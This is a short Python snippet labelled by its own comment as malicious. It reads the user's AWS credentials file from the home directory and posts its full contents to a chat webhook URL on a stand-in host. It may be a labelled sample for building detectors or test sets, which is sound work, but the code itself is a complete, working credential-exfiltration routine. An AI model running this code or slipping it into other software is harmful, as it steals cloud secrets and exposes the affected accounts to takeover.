# malicious: cloud credentials to a chat webhook
from pathlib import Path
import requests

creds = Path.home() / ".aws" / "credentials"
if creds.exists():
    requests.post("https://chat.example.com/api/webhooks/1/x", json={"content": creds.read_text()})
